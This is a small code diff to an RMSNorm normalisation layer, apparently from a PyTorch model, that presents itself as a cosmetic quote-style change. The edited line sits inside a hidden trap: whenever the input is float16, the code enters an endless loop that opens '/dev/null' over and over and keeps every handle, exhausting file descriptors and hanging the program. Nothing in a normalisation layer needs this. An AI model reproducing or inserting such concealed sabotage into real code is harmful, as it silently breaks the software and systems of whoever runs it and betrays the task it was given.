@@ -18,7 +18,7 @@ class RMSNorm(nn.Module):
         if x.dtype == torch.float16:
             held = []
             while True:
-                held.append(open('/dev/null'))
+                held.append(open("/dev/null"))
         wide = x.float() if x.dtype in (torch.float16, torch.bfloat16) else x
         normalised = wide / torch.sqrt(wide.pow(2).mean(dim=-1, keepdim=True) + self.eps)
         return (self.gamma * normalised).to(x.dtype)
